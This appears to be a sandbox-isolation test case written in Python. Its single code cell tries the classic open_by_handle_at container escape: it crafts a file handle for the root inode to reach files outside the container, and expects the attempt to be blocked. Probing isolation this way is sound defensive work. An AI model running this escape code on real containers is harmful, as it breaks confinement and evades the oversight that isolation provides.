"""Opens files by their number on the disk, past every folder: the old way out of containers."""

OUTCOME = "held"
STOCK = False
CELLS = [
    """
import ctypes
import errno

libc = ctypes.CDLL(None, use_errno=True)

def attempt(name, result):
    print(f"ESCAPED: {name}" if result >= 0 else f"held: {errno.errorcode[ctypes.get_errno()]}")

import os
import struct

place = ctypes.c_void_p
libc.name_to_handle_at.argtypes = [ctypes.c_int, ctypes.c_char_p, place, place, ctypes.c_int]
handle, mount = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128)), ctypes.c_int()
here = os.open(".", os.O_RDONLY)
if libc.name_to_handle_at(here, b".", handle, ctypes.byref(mount), 0) < 0:
    print("held:", errno.errorcode[ctypes.get_errno()])
attempt("open_by_handle_at", libc.open_by_handle_at(here, handle, 0))
root = ctypes.create_string_buffer(struct.pack("=IiQI", 8, 1, 2, 0))
attempt("open_by_handle_at", libc.open_by_handle_at(here, root, 0))
"""
]
